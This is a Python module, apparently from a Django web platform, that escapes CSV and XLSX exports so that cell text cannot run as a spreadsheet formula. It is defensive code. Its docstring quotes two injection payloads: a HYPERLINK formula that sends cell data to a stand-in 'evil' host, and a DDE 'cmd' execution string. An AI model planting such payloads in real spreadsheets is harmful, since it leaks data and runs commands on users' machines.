"""Every CSV and XLSX file the platform writes goes through here, so that none can carry a live formula.

A cell whose text a spreadsheet would read as a formula (CSV/spreadsheet "formula injection": a name such as
``=HYPERLINK("http://evil/?"&B2,"click")`` or ``+cmd|' /C calc'!A0``, imported from an agency list or typed in a
form) must reach the reader as text:

- **CSV**: text that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms), a tab or a carriage
  return, also after leading spaces, is written with a leading apostrophe (``'=HYPERLINK(…)``), which every
  spreadsheet shows as text.  Text that is just a number (``-1.50``, ``+3``) is left alone, and numbers (``int``,
  ``Decimal``, ``float``) are written as numbers, so a negative change stays a number.
- **XLSX**: every text cell is written as a string cell (``t="inlineStr"``), never a formula (``<f>``), whatever
  it starts with; one that looks like a formula also gets the "quote prefix" style, so editing it in Excel keeps
  it text.  Characters XML cannot hold (control characters) are dropped instead of failing the export.

Files are built without holding them in memory: CSV is streamed row by row (``csv_response``), XLSX is written
with openpyxl's write-only mode into an anonymous temporary file that is streamed back (``xlsx_response``).
Module imports stay light (no openpyxl, no Django at import time), so the command line can use ``csv_cell``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal

#: characters that make a spreadsheet read a cell as a formula (ASCII and full-width forms)
FORMULA_START = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
#: leading characters a spreadsheet may skip before it looks for a formula
LEADING_SPACE = " \u00a0\u3000\n"
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)\Z")
CSV_BOM = "\ufeff"  # Thai Excel opens a UTF-8 CSV correctly only with the byte-order mark
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (or a DDE command)."""
    if not text:
        return False
    if text[0] in "\t\r":
        return True
    stripped = text.lstrip(LEADING_SPACE)
    return bool(stripped) and stripped[0] in FORMULA_START and not PLAIN_NUMBER.match(stripped)


def safe_text(text: str) -> str:
    """``text`` as a CSV cell: a leading apostrophe when it would be read as a formula, else unchanged."""
    return "'" + text if looks_like_formula(text) else text


def csv_cell(value) -> str:
    """One CSV cell: empty for None, numbers as plain digits (two decimals kept), text made safe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, (int, float)):
        return str(value)
    return safe_text(str(value))


class _Line:
    """A file-like sink for ``csv.writer`` that hands back what was written."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def write(self, text: str) -> None:
        self.parts.append(text)

    def take(self) -> str:
        text = "".join(self.parts)
        self.parts.clear()
        return text


def csv_chunks(
    header: Sequence,
    rows: Iterable[Sequence],
    *,
    bom: bool = True,
    lineterminator: str = "\r\n",
    rows_per_chunk: int = 500,
) -> Iterator[bytes]:
    """The CSV file as UTF-8 chunks: the byte-order mark and header first, then ``rows_per_chunk`` rows a chunk."""
    sink = _Line()
    writer = csv.writer(sink, lineterminator=lineterminator)
    writer.writerow([csv_cell(v) for v in header])
    chunk = (CSV_BOM if bom else "") + sink.take()
    for count, row in enumerate(rows, start=1):
        writer.writerow([csv_cell(v) for v in row])
        if count % rows_per_chunk == 0:
            yield (chunk + sink.take()).encode("utf-8")
            chunk = ""
    yield (chunk + sink.take()).encode("utf-8")


def csv_bytes(header: Sequence, rows: Iterable[Sequence], **options) -> bytes:
    """The whole CSV file at once (small files: import templates, one agency's sheets)."""
    return b"".join(csv_chunks(header, rows, **options))


def csv_text(header: Sequence | None, rows: Iterable[Sequence], lineterminator: str = "\n") -> str:
    """CSV text without a byte-order mark (the command line's ``--format csv``); ``header`` may be None."""
    sink = _Line()
    writer = csv.writer(sink, lineterminator=lineterminator)
    if header is not None:
        writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return sink.take()


# ------------------------------------------------------------------------------------------------------ XLSX


@dataclass
class Sheet:
    """One worksheet to write: its title, header row and rows (any iterable, consumed once)."""

    title: str
    header: Sequence
    rows: Iterable[Sequence]
    widths: Sequence[float] = ()
    number_format: str = "0.00"  # for Decimal and float cells
    footer: str = ""


def xlsx_value(value):
    """A value as openpyxl should store it: numbers stay numbers, text is cleaned of XML-illegal characters."""
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("", value)
    return value


def write_xlsx(sheets: Iterable[Sheet], target) -> None:
    """Write ``sheets`` into ``target`` (a path or a binary file object) with openpyxl's write-only mode: rows go
    to disk as they come, so memory does not grow with the number of rows."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for sheet in sheets:
        ws = book.create_sheet((sheet.title or "Sheet1")[:31])
        for i, width in enumerate(sheet.widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        ws.freeze_panes = "A2"
        if sheet.footer:
            ws.oddFooter.center.text = sheet.footer
        header = [_text_cell(ws, str(v)) if v is not None else None for v in sheet.header]
        for cell in header:
            if cell is not None:
                cell.font = bold
        ws.append(header)
        numbers: dict[int, object] = {}  # one styled cell per column, reused row after row
        for row in sheet.rows:
            ws.append([_value(ws, i, v, numbers, sheet.number_format) for i, v in enumerate(row)])
    book.save(target)


def _value(ws, column: int, value, numbers: dict, number_format: str):
    """What to append for one cell.  Plain values take openpyxl's fast path; only text it would read as a
    formula or an error code gets its own string cell, and numbers with a format share one styled cell."""
    if isinstance(value, str):
        value = xlsx_value(value)
        if value[:1] == "=" or value in _error_codes() or looks_like_formula(value):
            return _text_cell(ws, value)
        return value
    if number_format and isinstance(value, (Decimal, float)) and not isinstance(value, bool):
        cell = numbers.get(column)
        if cell is None:
            from openpyxl.cell import WriteOnlyCell

            cell = numbers[column] = WriteOnlyCell(ws)
            cell.number_format = number_format
        cell.value = value  # openpyxl writes the cell out before the next row reuses it
        return cell
    return value


def _text_cell(ws, text: str):
    from openpyxl.cell import WriteOnlyCell

    text = xlsx_value(text)
    cell = WriteOnlyCell(ws, value=text)
    cell.data_type = "s"  # never a formula, whatever the text starts with
    if looks_like_formula(text):
        cell.quotePrefix = True
    return cell


def _error_codes() -> tuple:
    from openpyxl.cell.cell import ERROR_CODES

    return ERROR_CODES


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    import io

    buffer = io.BytesIO()
    write_xlsx(sheets, buffer)
    return buffer.getvalue()


# -------------------------------------------------------------------------------------------------- responses


def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence], *, private: bool = True):
    """A streamed CSV download (``StreamingHttpResponse``): rows are read and written as the client receives."""
    from django.http import StreamingHttpResponse

    response = StreamingHttpResponse(csv_chunks(header, rows), content_type="text/csv; charset=utf-8")
    return _download(response, filename, private)


def xlsx_response(filename: str, sheets: Iterable[Sheet], *, private: bool = True):
    """An XLSX download written with openpyxl's write-only mode into an anonymous temporary file (removed when
    the response is closed) and streamed from there."""
    import tempfile

    from django.http import FileResponse

    spool = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 - FileResponse closes it after streaming
    try:
        write_xlsx(sheets, spool)
        spool.seek(0)
    except BaseException:
        spool.close()
        raise
    response = FileResponse(spool, content_type=XLSX_TYPE)
    return _download(response, filename, private)


def _download(response, filename: str, private: bool):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if private:
        response["Cache-Control"] = "private, no-store"
    return response
